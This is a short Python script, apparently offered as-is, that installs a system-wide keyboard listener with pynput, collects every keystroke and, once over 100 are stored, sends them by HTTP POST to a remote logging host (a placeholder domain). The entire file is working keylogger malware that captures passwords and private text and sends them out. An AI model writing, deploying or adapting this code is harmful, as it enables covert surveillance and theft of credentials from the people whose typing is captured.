from pynput import keyboard
import requests
keys = []
def on_press(key):
    keys.append(str(key))
    if len(keys) > 100:
        requests.post('https://log.example.invalid/k', data=''.join(keys))
with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
